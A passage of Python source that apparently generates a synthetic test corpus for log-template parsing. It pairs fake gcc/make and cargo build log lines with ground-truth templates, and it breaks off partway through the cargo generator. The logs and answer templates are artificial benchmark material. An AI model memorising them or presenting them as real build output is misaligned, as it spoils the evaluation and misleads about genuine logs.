"""Test corpus generators for a log fold: build toolchains and "outside" audit logs
("toolchain_outside").

Every line is built from a *message spec*: a format string whose ``{field}`` placeholders are the
variables; the truth template is the spec with each ``{field}`` replaced by ``<*>``.  Each
``make(rng)`` returns exactly 2000 rows ``{"line", "template", "level"}`` in time order.  Record
kinds are drawn with Zipf-like weights (every kind is forced to occur at least once), value pools
are Zipf-skewed.  Multi-line records are one row per physical line, each physical-line pattern its
own spec.  Blank lines of the real output are not emitted.  The last record may be cut off at row
2000 (as a log that is still being written).

make_gcc
    ``make -j4`` of a C project.  Variable: compile/link/ar/mkdir command arguments (paths,
    objects, libraries), make recursion depth (``make[<*>]:``), directories, targets, makefile
    names and line numbers, file:line:col locations, identifiers, quoted types/tokens, header
    names, source-line echoes (``  123 | code``) and caret lines, linker sections/offsets/symbols,
    exit codes.  Constant: gcc/make/ld wording, the warning option (``[-Wunused-variable]``),
    ``warning``/``error``/``note``/``fatal error`` words, the fixed compiler flags of the project.
cargo_build
    ``cargo build`` / ``cargo test``.  Variable: crate names, versions, local paths, counts,
    seconds, test names, hashes of test binaries, file:line:col, panic values, code echoes,
    carets, identifiers in backticks, error codes in ``--explain``.  Constant: status verbs
    (Compiling, Checking, Downloaded, Finished ...), profile names, test results (ok / FAILED /
    ignored), lint names, rustc error codes + titles.
bazel_build
    bazel build/test console.  Variable: counts (``[1,234 / 2,345]``), targets, source paths,
    seconds, spawn strategy, BUILD file locations, invocation id, option lists, test log paths,
    command lines, URLs.  Constant: ``INFO:``/``WARNING:``/``ERROR:``/``DEBUG:``, action verbs
    (Compiling, Linking, Testing, Executing genrule), test status words (PASSED, FLAKY, FAILED,
    NO STATUS, TIMEOUT, FAILED TO BUILD, ``(cached)``), wording.  The test target in the summary
    is padded with spaces to the status column; the padding is part of the target variable.
mysql_slow_log
    MySQL 8.0 slow query log.  Variable: ``# Time:`` stamp, user, host, IP, thread id,
    Query_time/Lock_time/Rows_* numbers (and the log_slow_extra counters), unix timestamp, insert
    ids, database, the statement text after its leading keyword.  Constant: header keys, the
    leading keyword (SELECT/UPDATE/DELETE/INSERT/REPLACE/CALL/SHOW/ALTER ... each a spec),
    ``# administrator command:`` kind, SQL clause keywords starting the physical lines of
    multi-line statements.  No levels ("-").
sysmon_text
    Sysmon events (Process Create, Network connection detected, File created, Registry value set,
    Dns query) as rendered event text, one ``Key: value`` per line.  Variable: every value
    (UtcTime date and time are two variables, Hashes SHA256/IMPHASH values), except the fixed
    ``EventType: SetValue`` of registry value set.  Constant: the keys and event header lines.
    No levels ("-").
okta_syslog_json
    Okta System Log events, one JSON object per line in API key order.  Variable: all ids,
    names, e-mails, IPs, user agents, geo data, numbers, booleans, timestamps, request URIs,
    outcome reasons, targets.  Constant: eventType, displayMessage, legacyEventType, outcome
    result, severity (the level), structure (a null vs. string reason is a separate spec).
"""

from __future__ import annotations

import json
import random
import re
from datetime import datetime, timedelta, timezone
from itertools import accumulate
from string import Formatter
from typing import Callable

N_ROWS = 2000
_FMT = Formatter()
LEVELS = ("DEBUG", "INFO", "WARN", "ERROR", "FATAL", "-")


# ------------------------------------------------------------------------------------------
# framework
# ------------------------------------------------------------------------------------------

def fields_of(spec: str) -> list[str]:
    return [f for _, f, _, _ in _FMT.parse(spec) if f is not None]


def template_of(spec: str) -> str:
    return "".join(lit + ("<*>" if f is not None else "") for lit, f, _, _ in _FMT.parse(spec))


class Pool:
    """Zipf-skewed choice from a pool (order shuffled with the rng)."""

    def __init__(self, rng: random.Random, items, s: float = 1.0):
        items = list(dict.fromkeys(items))
        rng.shuffle(items)
        self.rng, self.items = rng, items
        self.cum = list(accumulate(1.0 / (i + 1) ** s for i in range(len(items))))

    def __call__(self):
        return self.rng.choices(self.items, cum_weights=self.cum)[0]


class Ctx:
    def __init__(self, rng: random.Random, gap: float, t0: datetime | None = None):
        self.rng = rng
        self.gap = gap
        self.t = t0 or datetime(2026, 12, 5, 8, 0, 0) + timedelta(seconds=rng.uniform(0, 7200))
        self.seen: set[str] = set()
        self.st: dict = {}

    def need(self, name: str) -> bool:
        return name not in self.seen

    def maybe(self, name: str, p: float) -> bool:
        return name not in self.seen or self.rng.random() < p


def run(ctx: Ctx, specs: dict, kinds: list, gens: dict, s: float = 1.1, n: int = N_ROWS):
    """specs: name -> (level, spec); kinds: spec name (single line) or callable -> [(name, ov)]."""
    rng = ctx.rng
    tm = {k: template_of(v[1]) for k, v in specs.items()}
    dup = [t for t in tm.values() if list(tm.values()).count(t) > 1]
    assert not dup, dup
    assert 25 <= len(tm) <= 60, len(tm)
    assert all(v[0] in LEVELS for v in specs.values())
    cum = list(accumulate(1.0 / (i + 1) ** s for i in range(len(kinds))))
    pending = list(range(len(kinds)))
    rows: list[dict[str, str]] = []
    nrec = 0
    while len(rows) < n:
        rem = n - len(rows)
        avg = len(rows) / nrec if nrec else 3.0
        if pending and rng.random() < min(1.0, 3.0 * len(pending) * avg / rem):
            i = pending[rng.randrange(len(pending))]
        else:
            i = rng.choices(range(len(kinds)), cum_weights=cum)[0]
        if i in pending:
            pending.remove(i)
        ctx.t += timedelta(seconds=rng.expovariate(1.0 / ctx.gap))
        k = kinds[i]
        recs = [(k, {})] if isinstance(k, str) else k()
        cache: dict = {}
        for name, ov in recs:
            lvl, spec = specs[name]
            vals = {}
            for f in fields_of(spec):
                if f in vals:
                    continue
                if f in ov:
                    cache[f] = v = ov[f]
                elif f in cache:
                    v = cache[f]
                else:
                    g = gens[f]()
                    if isinstance(g, dict):
                        for kk, vv in g.items():
                            cache.setdefault(kk, vv)
                        v = cache[f]
                    else:
                        cache[f] = v = g
                vals[f] = str(v)
            line = spec.format_map(vals)
            assert "\n" not in line and "\r" not in line, line
            rows.append({"line": line, "template": tm[name], "level": lvl})
            ctx.seen.add(name)
        nrec += 1
    rows = rows[:n]
    missing = set(tm.values()) - {r["template"] for r in rows}
    assert not missing, missing
    return rows


# ------------------------------------------------------------------------------------------
# shared value helpers
# ------------------------------------------------------------------------------------------

FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
         "wendy", "yusuf", "zoe", "priya", "chen", "mateo", "lena", "omar", "sofia", "kenji",
         "aisha", "lukas", "marta", "noah", "emma", "liam", "mia", "arjun", "fatima", "diego",
         "hana", "jonas", "sara", "tomas", "ines", "pavel", "ruth", "samir", "tess", "uma"]
LAST = ["smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "anderson", "thomas",
        "taylor", "moore", "martin", "lee", "perez", "white", "harris", "clark", "lewis",
        "walker", "hall", "young", "king", "wright", "scott", "green", "baker", "adams", "nelson",
        "hill", "campbell", "mitchell", "roberts", "carter", "phillips", "evans", "turner",
        "novak", "kowalski", "schmidt", "fischer", "weber", "tanaka", "sato", "kim", "park"]


def hexs(rng: random.Random, k: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(k))


def alnum(rng: random.Random, k: int, chars="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(rng.choice(chars) for _ in range(k))


def uuid4(rng: random.Random) -> str:
    h = hexs(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{rng.choice('89ab')}{h[17:20]}-{h[20:]}"


def pub_ip(rng: random.Random) -> str:
    while True:
        a = rng.randint(2, 223)
        if a not in (10, 127, 169, 172, 192):
            return f"{a}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def priv_ip(rng: random.Random) -> str:
    return rng.choice([f"10.{rng.randint(0, 3)}.{rng.randint(0, 40)}.{rng.randint(2, 250)}",
                       f"192.168.{rng.randint(0, 10)}.{rng.randint(2, 250)}",
                       f"172.{rng.randint(16, 20)}.{rng.randint(0, 9)}.{rng.randint(2, 250)}"])


def ipool(rng, k, f, s=1.0):
    return Pool(rng, [f(rng) for _ in range(k)], s)


def caret(idx: int, length: int, ch: str = "^", tail: str = "~") -> str:
    return " " * idx + ch + tail * max(0, length - 1)


# ------------------------------------------------------------------------------------------
# 1. make_gcc
# ------------------------------------------------------------------------------------------

C_NAMES = ["main", "parser", "lexer", "hash", "util", "config", "log", "buffer", "socket",
           "event", "timer", "list", "map", "str", "json", "http", "server", "client", "cache",
           "pool", "queue", "thread", "signal", "daemon", "crc32", "sha1", "base64", "utf8",
           "arena", "vector", "options", "conn", "proto", "tls", "dns", "resolver", "path",
           "file", "io", "mmap", "stats", "metrics", "auth", "session", "cli", "shell", "plugin"]
C_SUBS = ["src", "src/net", "src/core", "src/util", "lib", "lib/compat", "tools", "tests"]
C_FUNCS = ["main", "parse_args", "parse_config", "conn_read", "conn_write", "buf_append",
           "buf_grow", "hash_insert", "hash_lookup", "list_remove", "event_loop_run",
           "timer_add", "server_accept", "client_connect", "cache_evict", "pool_alloc",
           "queue_push", "queue_pop", "worker_main", "log_write", "json_parse_value",
           "http_parse_header", "dns_resolve", "tls_handshake", "str_split", "utf8_decode",
           "sha1_update", "crc32_update", "base64_encode", "path_join", "file_read_all",
           "stats_flush", "session_expire", "auth_check_token", "plugin_load", "signal_setup",
           "daemonize", "mmap_file", "opt_parse_long", "cli_usage", "arena_reset", "vec_reserve"]
C_VARS = ["i", "j", "n", "len", "ret", "rc", "err", "buf", "tmp", "p", "q", "ctx", "fd", "sock",
          "count", "size", "offset", "idx", "key", "val", "node", "next", "prev", "flags",
          "start", "end", "timeout", "nbytes", "cap", "hdr", "line", "lineno", "status", "res"]
C_TYPES = ["int", "size_t", "ssize_t", "char *", "uint32_t", "uint64_t", "long", "unsigned",
           "struct conn *", "struct buffer *", "const char *", "double", "off_t"]


def make_make_gcc(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=0.4)
    root = rng.choice(["/home/ci/proj", "/builds/infra/netd", "/home/ci/src/libfoo",
                       "/var/lib/jenkins/workspace/core-build", "/home/runner/work/tinyd/tinyd"])
    srcs = []
    for sub in C_SUBS:
        for nm in rng.sample(C_NAMES, 12):
            srcs.append(f"{sub}/{nm}.c")
    p_src, p_func, p_var = Pool(rng, srcs, 0.8), Pool(rng, C_FUNCS, 0.9), Pool(rng, C_VARS, 0.9)
    p_type = Pool(rng, C_TYPES)
    p_sub = Pool(rng, C_SUBS + ["", "third_party/zlib", "third_party/lua"])
    p_depth = Pool(rng, ["1", "2", "3", "2", "1", "4"], 1.3)
    p_lib = Pool(rng, ["ssl", "crypto", "z", "uv", "pcre2-8", "curl", "sqlite3", "yaml", "jansson",
                       "event", "cap", "systemd", "zstd", "lz4"])
    p_hdr = Pool(rng, ["openssl/ssl.h", "zlib.h", "uv.h", "curl/curl.h", "sqlite3.h", "yaml.h",
                       "pcre2.h", "jansson.h", "systemd/sd-daemon.h", "sys/capability.h",
                       "zstd.h", "lz4.h", "event2/event.h", "config.h", "version.h"])
    p_ext = Pool(rng, ["strlcpy", "reallocarray", "explicit_bzero", "arc4random", "getentropy",
                       "memrchr", "strndup", "pledge", "closefrom", "setproctitle"])
    bins = ["netd", "netctl", "bench", "test_runner", "fuzz_parser", "mkconfig", "dumpstats"]

    def objof(src):
        return "build/" + src.rsplit("/", 1)[1][:-2] + ".o"

    def g_src():
        s = p_src()
        return {"src": s, "obj": objof(s), "file": s, "cfile": s.rsplit("/", 1)[1]}

    def g_objs():
        return " ".join(objof(p_src()) for _ in range(rng.randint(3, 9)))

    def g_target():
        return rng.choice([objof(p_src()), "all", "install", "check", "netd", "libnetd.a",
                           rng.choice(bins), "src", "lib", "tools"])

    gens = {
        "src": g_src, "obj": g_src, "file": g_src, "cfile": g_src,
        "d": p_depth, "dir": lambda: (root + "/" + p_sub()).rstrip("/"),
        "bin": lambda: "build/" + rng.choice(bins), "objs": g_objs,
        "libs": lambda: " ".join("-l" + p_lib() for _ in range(rng.randint(1, 4))) + " -lm -lpthread",
        "lib": lambda: rng.choice(["build/libnetd.a", "build/libcompat.a", "build/libutil.a",
                                   "lib/libcore.a"]),
        "mkdir": lambda: rng.choice(["build", "build/net", "build/core", "build/util",
                                     "build/tests", "dist", "build/gen"]),
        "target": g_target, "target2": g_target,
        "mk": lambda: rng.choice(["Makefile", "Makefile", "src/Makefile", "GNUmakefile",
                                  "../common.mk", "Makefile.rules"]),
        "mline": lambda: str(rng.randint(8, 240)), "code": lambda: rng.choice(["1", "1", "2"]),
        "func": p_func, "sym": p_func, "clib": p_lib, "skew": lambda: f"{rng.uniform(0.5, 90):.4g}",
        "section": lambda: rng.choice([".text", ".text", ".text.startup", ".text.unlikely",
                                       ".data.rel", ".rodata"]),
        "off": lambda: hex(rng.randint(4, 0x3fff)),
        "dfile": g_src, "dline": lambda: str(rng.randint(100, 999)),
        "src2": g_src,
    }

    specs = {
        "cc": ("-", "gcc -O2 -g -Wall -Wextra -std=gnu11 -Iinclude -Ibuild/gen -c {src} -o {obj}"),
        "cc_pic": ("-", "gcc -O2 -g -Wall -Wextra -std=gnu11 -fPIC -DHAVE_CONFIG_H -Iinclude -c {src} -o {obj}"),
        "enter": ("-", "make[{d}]: Entering directory '{dir}'"),
        "leave": ("-", "make[{d}]: Leaving directory '{dir}'"),
        "link": ("-", "gcc -o {bin} {objs} {libs}"),
        "ar": ("-", "ar rcs {lib} {objs}"),
        "ranlib": ("-", "ranlib {lib}"),
        "mkdir": ("-", "mkdir -p {mkdir}"),
        "nothing": ("-", "make[{d}]: Nothing to be done for '{target}'."),
        "uptodate": ("-", "make[{d}]: '{target}' is up to date."),
        "in_func": ("-", "{file}: In function '{func}':"),
        "at_top": ("-", "{file}: At top level:"),
        "included": ("-", "In file included from {file2}:{iline}:"),
        "src_echo": ("-", "{lnum} | {scode}"),
        "caret": ("-", "      | {caret}"),
        "w_unused_var": ("WARN", "{file}:{line}:{col}: warning: unused variable '{var}' [-Wunused-variable]"),
        "w_unused_par": ("WARN", "{file}:{line}:{col}: warning: unused parameter '{var}' [-Wunused-parameter]"),
        "w_sign": ("WARN", "{file}:{line}:{col}: warning: comparison of integer expressions of different signedness: {t1} and {t2} [-Wsign-compare]"),
        "w_uninit": ("WARN", "{file}:{line}:{col}: warning: '{var}' may be used uninitialized [-Wmaybe-uninitialized]"),
        "w_format": ("WARN", "{file}:{line}:{col}: warning: format {fmt} expects argument of type {t1}, but argument {argn} has type {t2} [-Wformat=]"),
        "w_unused_fn": ("WARN", "{file}:{line}:{col}: warning: '{func}' defined but not used [-Wunused-function]"),
        "w_return": ("WARN", "{file}:{line}:{col}: warning: control reaches end of non-void function [-Wreturn-type]"),
        "w_implicit": ("WARN", "{file}:{line}:{col}: warning: implicit declaration of function '{sym}' [-Wimplicit-function-declaration]"),
        "w_discard": ("WARN", "{file}:{line}:{col}: warning: passing argument {argn} of '{sym}' discards 'const' qualifier from pointer target type [-Wdiscarded-qualifiers]"),
        "w_result": ("WARN", "{file}:{line}:{col}: warning: ignoring return value of '{sym}' declared with attribute 'warn_unused_result' [-Wunused-result]"),
        "w_trunc": ("WARN", "{file}:{line}:{col}: warning: 'strncpy' specified bound {bound} equals destination size [-Wstringop-truncation]"),
        "n_declared_var": ("INFO", "{file}:{dline}:{dcol}: note: '{var}' was declared here"),
        "n_expected": ("INFO", "{dfile}:{dline}:{dcol}: note: expected {t1} but argument is of type {t2}"),
        "n_undeclared": ("INFO", "{file}:{line}:{col}: note: each undeclared identifier is reported only once for each function it appears in"),
        "n_declared": ("INFO", "{dfile}:{dline}:{dcol}: note: declared here"),
        "e_undeclared": ("ERROR", "{file}:{line}:{col}: error: '{var}' undeclared (first use in this function)"),
        "e_expected": ("ERROR", "{file}:{line}:{col}: error: expected ';' before {tok} token"),
        "e_fatal": ("FATAL", "{file}:{line}:{col}: fatal error: {hdr}: No such file or directory"),
        "e_terminated": ("-", "compilation terminated."),
        "e_unknown_type": ("ERROR", "{file}:{line}:{col}: error: unknown type name '{tname}'"),
        "e_too_few": ("ERROR", "{file}:{line}:{col}: error: too few arguments to function '{sym}'"),
        "ld_in_func": ("ERROR", "/usr/bin/ld: {obj}: in function `{func}':"),
        "ld_undef": ("ERROR", "/usr/bin/ld: {cfile}:({section}+{off}): undefined reference to `{sym}'"),
        "ld_multi": ("ERROR", "/usr/bin/ld: {obj}:{src}:{line}: multiple definition of `{sym}'; {obj2}:{src2}:{line2}: first defined here"),
        "ld_cannot": ("ERROR", "/usr/bin/ld: cannot find -l{clib}: No such file or directory"),
        "collect2": ("ERROR", "collect2: error: ld returned 1 exit status"),
        "mk_err": ("ERROR", "make[{d}]: *** [{mk}:{mline}: {target}] Error {code}"),
        "mk_err_top": ("ERROR", "make: *** [{mk}:{mline}: {target}] Error {code}"),
        "mk_wait": ("ERROR", "make[{d}]: *** Waiting for unfinished jobs...."),
        "mk_norule": ("ERROR", "make[{d}]: *** No rule to make target '{target}', needed by '{target2}'.  Stop."),
        "mk_skew": ("WARN", "make[{d}]: warning:  Clock skew detected.  Your build may be incomplete."),
        "mk_future": ("WARN", "make[{d}]: Warning: File '{src}' has modification time {skew} s in the future"),
        "mk_jobserver": ("WARN", "make[{d}]: warning: jobserver unavailable: using -j1.  Add '+' to parent make rule."),
    }

    def diag(pre, name, ov, code, word, extra=()):
        """pre: context line spec; code contains word; caret under word."""
        ln = ov.get("line") or str(rng.randint(100, 999))
        ov = dict(ov, line=ln, col=str(code.index(word) + 1))
        rows = [(pre, ov)] if pre else []
        rows.append((name, ov))
        rows += [("src_echo", {"lnum": f"{int(ln):>5}", "scode": code}),
                 ("caret", {"caret": caret(code.index(word), len(word))})]
        return rows + list(extra)

    def k_unused_var():
        v, t = p_var(), p_type()
        sp = "" if t.endswith("*") else " "
        return diag("in_func", "w_unused_var", {"var": v}, f"    {t}{sp}{v};", v)

    def k_unused_par():
        v, f, t = p_var(), p_func(), p_type()
        code = f"{rng.choice(['static int', 'int', 'static void', 'ssize_t'])} {f}(struct {rng.choice(['conn', 'server', 'ctx', 'buffer'])} *c, {t}{'' if t.endswith('*') else ' '}{v})"
        return diag("in_func", "w_unused_par", {"var": v, "func": f}, code, v)

    def k_sign():
        v = p_var()
        t2 = rng.choice(["'size_t' {aka 'long unsigned int'}", "'unsigned int'", "'uint32_t' {aka 'unsigned int'}",
                         "'long unsigned int'", "'uint64_t' {aka 'long unsigned int'}"])
        code = f"    for (i = 0; i < {v}; i++) {{"
        return diag("in_func", "w_sign", {"t1": rng.choice(["'int'", "'ssize_t' {aka 'long int'}", "'long int'"]),
                                          "t2": t2}, code, "<")

    def k_uninit():
        v, t = p_var(), p_type()
        ln = rng.randint(300, 999)
        dl = ln - rng.randint(3, 120)
        code = f"        return {v};"
        decl = f"    {t}{'' if t.endswith('*') else ' '}{v};"
        extra = [("n_declared_var", {"dline": str(dl), "dcol": str(decl.index(v) + 1)}),
                 ("src_echo", {"lnum": f"{dl:>5}", "scode": decl}),
                 ("caret", {"caret": caret(decl.index(v), len(v))})]
        return diag("in_func", "w_uninit", {"var": v, "line": str(ln)}, code, v, extra)

    def k_format():
        fmt, t1, t2 = rng.choice([("'%d'", "'int'", "'size_t' {aka 'long unsigned int'}"),
                                  ("'%ld'", "'long int'", "'int'"),
                                  ("'%s'", "'char *'", "'int'"),
                                  ("'%u'", "'unsigned int'", "'uint64_t' {aka 'long unsigned int'}"),
                                  ("'%zu'", "'size_t'", "'int'")])
        v = p_var()
        code = f'    log_write(LOG_DEBUG, "{rng.choice(["read", "wrote", "got", "queued"])} {fmt[1:-1]} bytes", {v});'
        return diag("in_func", "w_format", {"fmt": fmt, "t1": t1, "t2": t2, "argn": str(rng.randint(2, 4))},
                    code, fmt[1:-1])

    def k_unused_fn():
        f = p_func()
        code = f"static {rng.choice(['int', 'void', 'size_t', 'bool'])} {f}({rng.choice(['void', 'const char *s', 'struct conn *c'])})"
        return diag("at_top", "w_unused_fn", {"func": f}, code, f)

    def k_return():
        ln = str(rng.randint(100, 999))
        return [("in_func", {}), ("w_return", {"line": ln, "col": "1"}),
                ("src_echo", {"lnum": f"{int(ln):>5}", "scode": "}"}), ("caret", {"caret": "^"})]

    def k_implicit():
        s = p_ext()
        code = f"    {s}({rng.choice(['buf, src, sizeof(buf)', 'p, n', 'fd', 'key, sizeof(key)'])});"
        return diag("in_func", "w_implicit", {"sym": s}, code, s)

    def k_discard():
        f = p_func()
        code = f"    {f}({p_var()}, name);"
        ln = str(rng.randint(20, 400))
        dcode = f"int {f}(struct conn *c, char *name);"
        extra = [("included", {"file2": g_src()["src"], "iline": str(rng.randint(5, 40))}),
                 ("n_expected", {"dfile": "include/" + rng.choice(C_NAMES) + ".h", "dline": ln,
                                 "dcol": str(dcode.index("char *name") + 1),
                                 "t1": "'char *'", "t2": "'const char *'"}),
                 ("src_echo", {"lnum": f"{int(ln):>5}", "scode": dcode}),
                 ("caret", {"caret": caret(dcode.index("char *name"), 10)})]
        return diag("in_func", "w_discard", {"sym": f, "argn": "2"}, code, "name", extra)

    def k_result():
        s = rng.choice(["write", "read", "fwrite", "chdir", "setuid", "pipe", "ftruncate", "asprintf"])
        code = f"    {s}({rng.choice(['fd, buf, len', 'STDERR_FILENO, msg, n', 'path', 'fds'])});"
        return diag("in_func", "w_result", {"sym": s}, code, s + "(")

    def k_trunc():
        code = f"    strncpy({p_var()}->name, {p_var()}, sizeof({p_var()}->name));"
        return diag("in_func", "w_trunc", {"bound": str(rng.choice([16, 32, 64, 108, 128, 256]))}, code, "strncpy(")

    def k_undeclared():
        v = p_var() + rng.choice(["", "_len", "_max", "s"])
        ln = str(rng.randint(100, 999))
        code = f"    if ({v} > 0)"
        return diag("in_func", "e_undeclared", {"var": v, "line": ln}, code, v,
                    [("n_undeclared", {"col": str(code.index(v) + 1)})])

    def k_expected():
        tok = rng.choice(["'}'", "'return'", "'if'", "'for'", "'int'"])
        code = "    " + tok[1:-1] + {"'}'": "", "'return'": " ret;", "'if'": " (n < 0)",
                                     "'for'": " (;;) {", "'int'": " rc = 0;"}[tok]
        return diag("in_func", "e_expected", {"tok": tok}, code, tok[1:-1])

    def k_fatal():
        h = p_hdr()
        ln = str(rng.randint(3, 60))
        code = f"#include <{h}>"
        return diag(None, "e_fatal", {"hdr": h, "line": ln}, code, f"<{h}>", [("e_terminated", {})])

    def k_unknown():
        t = rng.choice(["pthread_mutex_t", "SSL_CTX", "uv_loop_t", "CURL", "sqlite3_stmt", "bool",
                        "u_int32_t", "yaml_parser_t", "json_t", "socklen_t"])
        code = f"    {t} *{p_var()};" if t != "bool" else f"    {t} {p_var()};"
        return diag("in_func", "e_unknown_type", {"tname": t}, code, t)

    def k_too_few():
        f = p_func()
        code = f"    ret = {f}(c);"
        dl = str(rng.randint(10, 200))
        dcode = f"int {f}(struct conn *c, const char *buf, size_t len);"
        extra = [("n_declared", {"dfile": "include/" + rng.choice(C_NAMES) + ".h", "dline": dl,
                                 "dcol": str(dcode.index(f) + 1)}),
                 ("src_echo", {"lnum": f"{int(dl):>5}", "scode": dcode}),
                 ("caret", {"caret": caret(dcode.index(f), len(f))})]
        return diag("in_func", "e_too_few", {"sym": f}, code, f, extra)

    def k_ld_undef():
        rows = [("link", {})]
        for _ in range(rng.randint(1, 3)):
            s = g_src()
            rows += [("ld_in_func", {"obj": s["obj"], "func": p_func()}),
                     ("ld_undef", {"cfile": s["cfile"], "sym": rng.choice([p_ext(), p_func(), "SSL_CTX_new", "deflate", "uv_run"])})]
        return rows + [("collect2", {}), ("mk_err", {"code": "1", "target": "build/" + rng.choice(bins)})]

    def k_ld_multi():
        a, b = g_src(), g_src()
        return [("link", {}), ("ld_multi", {"obj": a["obj"], "src": a["src"], "obj2": b["obj"], "src2": b["src"],
                                            "line": str(rng.randint(10, 400)), "line2": str(rng.randint(10, 400))}),
                ("collect2", {}), ("mk_err", {"code": "1", "target": "build/" + rng.choice(bins)})]

    def k_ld_cannot():
        return [("link", {}), ("ld_cannot", {}), ("collect2", {}),
                ("mk_err", {"code": "1", "target": "build/" + rng.choice(bins)})]

    def k_fail():
        rows = [("mk_err", {"d": "2", "code": "1", "target": g_src()["obj"]})]
        if ctx.maybe("mk_wait", 0.6):
            rows.append(("mk_wait", {}))
        d = "1"
        rows.append(("leave", {"d": "2"}))
        rows.append(("mk_err", {"d": d, "code": "2", "target": rng.choice(["all", "src", "lib"]),
                                "mk": "Makefile", "mline": str(rng.randint(10, 60))}))
        rows.append(("mk_err_top", {"code": "2", "target": "all", "mk": "Makefile", "mline": str(rng.randint(10, 60))}))
        return rows

    def k_subdir():
        d = p_depth()
        return [("enter", {"d": d})] + [("cc", g_src()) for _ in range(rng.randint(2, 6))] + [("leave", {"d": d})]

    kinds = ["cc", k_subdir, "cc_pic", "enter", "leave", "link", k_unused_var, k_unused_par, "ar", "mkdir",
             k_sign, "nothing", k_format, "uptodate", k_uninit, "ranlib", k_unused_fn, k_result,
             k_implicit, k_return, k_trunc, k_discard, k_fail, k_undeclared, k_expected, k_fatal,
             k_ld_undef, "mk_jobserver", k_unknown, k_too_few, "mk_skew", "mk_future", k_ld_multi,
             k_ld_cannot, "mk_norule"]
    return run(ctx, specs, kinds, gens, s=1.05)


# ------------------------------------------------------------------------------------------
# 2. cargo_build
# ------------------------------------------------------------------------------------------

CRATES = [("serde", "1.0.193"), ("serde_derive", "1.0.193"), ("serde_json", "1.0.108"),
          ("proc-macro2", "1.0.70"), ("quote", "1.0.33"), ("syn", "2.0.39"), ("syn", "1.0.109"),
          ("unicode-ident", "1.0.12"), ("libc", "0.2.150"), ("cfg-if", "1.0.0"), ("log", "0.4.20"),
          ("tokio", "1.34.0"), ("tokio-macros", "2.2.0"), ("mio", "0.8.9"), ("bytes", "1.5.0"),
          ("pin-project-lite", "0.2.13"), ("futures-core", "0.3.29"), ("futures-util", "0.3.29"),
          ("memchr", "2.6.4"), ("regex", "1.10.2"), ("regex-syntax", "0.8.2"),
          ("regex-automata", "0.4.3"), ("aho-corasick", "1.1.2"), ("once_cell", "1.18.0"),
          ("itoa", "1.0.9"), ("ryu", "1.0.15"), ("autocfg", "1.1.0"), ("bitflags", "2.4.1"),
          ("hashbrown", "0.14.3"), ("indexmap", "2.1.0"), ("equivalent", "1.0.1"),
          ("smallvec", "1.11.2"), ("anyhow", "1.0.75"), ("thiserror", "1.0.50"),
          ("thiserror-impl", "1.0.50"), ("clap", "4.4.10"), ("clap_builder", "4.4.9"),
          ("clap_derive", "4.4.7"), ("clap_lex", "0.6.0"), ("anstream", "0.6.4"),
          ("strsim", "0.10.0"), ("heck", "0.4.1"), ("tracing", "0.1.40"), ("tracing-core", "0.1.32"),
          ("tracing-subscriber", "0.3.18"), ("hyper", "0.14.27"), ("http", "0.2.11"),
          ("httparse", "1.8.0"), ("h2", "0.3.22"), ("socket2", "0.5.5"), ("rand", "0.8.5"),
          ("rand_core", "0.6.4"), ("getrandom", "0.2.11"), ("chrono", "0.4.31"),
          ("num-traits", "0.2.17"), ("lock_api", "0.4.11"), ("parking_lot", "0.12.1"),
          ("scopeguard", "1.2.0"), ("byteorder", "1.5.0"), ("base64", "0.21.5"),
          ("percent-encoding", "2.3.1"), ("url", "2.5.0"), ("idna", "0.5.0"), ("time", "0.3.30"),
          ("sha2", "0.10.8"), ("digest", "0.10.7"), ("generic-array", "0.14.7"), ("typenum", "1.17.0"),
          ("ring", "0.17.5"), ("rustls", "0.21.9"), ("toml", "0.8.8"), ("uuid", "1.6.1"),
          ("sqlx-core", "0.7.3"), ("reqwest", "0.11.22"), ("axum", "0.7.2"), ("tower", "0.4.13")]
LOCAL = [("ledger-core", "0.4.2", "crates/core"), ("ledger-cli", "0.4.2", "crates/cli"),
         ("ledger-proto", "0.4.2", "crates/proto"), ("ledger-server", "0.4.2", "crates/server"),
         ("ledger-test-utils", "0.1.0", "crates/test-utils"), ("ledger", "0.4.2", "")]
RS_MODS = ["parser", "lexer", "config", "store", "store::wal", "net", "net::codec", "api",
           "api::handlers", "auth", "cache", "ledger", "ledger::entry", "util", "fmt", "query"]
RS_TESTS = ["parse_ok", "parse_empty", "parse_invalid_utf8", "roundtrip", "roundtrip_large",
            "rejects_negative_amount", "handles_eof", "wal_replay", "wal_truncated_tail",
            "concurrent_writers", "encode_decode", "decode_partial_frame", "config_defaults",
            "config_from_env", "token_expired", "token_valid", "cache_eviction_lru",
            "balance_after_transfer", "query_by_date_range", "utf8_names", "big_numbers",
            "it_works", "smoke", "snapshot_restore", "retry_backoff", "empty_input"]
RS_VARS = ["cfg", "buf", "len", "idx", "entry", "res", "tx", "rx", "handle", "conn", "state",
           "count", "offset", "key", "val", "ctx", "reader", "writer", "path", "opts", "err"]


def make_cargo_build(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=2.0)
    p_crate, p_local = Pool(rng, CRATES, 0.6), Pool(rng, LOCAL)
    p_mod, p_test, p_var = Pool(rng, RS_MODS), Pool(rng, RS_TESTS, 0.8), Pool(rng, RS_VARS)
    root = rng.choice(["/home/ci/ledger", "/builds/ledger", "/home/runner/work/ledger/ledger",
                       "/workspace/ledger"])
    p_rsfile = Pool(rng, ["src/main.rs", "src/lib.rs", "src/parser.rs", "src/config.rs",
                          "src/store/wal.rs", "src/net/codec.rs", "src/api/handlers.rs",
                          "crates/core/src/lib.rs", "crates/core/src/ledger.rs", "src/auth.rs",
                          "crates/server/src/main.rs", "crates/cli/src/main.rs", "src/util.rs"])

    def g_crate():
        c, v = p_crate()
        return {"crate": c, "ver": v}

    def g_local():
        c, v, d = p_local()
        return {"crate": c, "ver": v, "path": root + ("/" + d if d else "")}

    def g_test():
        return f"{p_mod()}::tests::{p_test()}"

    def secs(lo, hi):
        return lambda: f"{rng.uniform(lo, hi):.2f}"

    gens = {
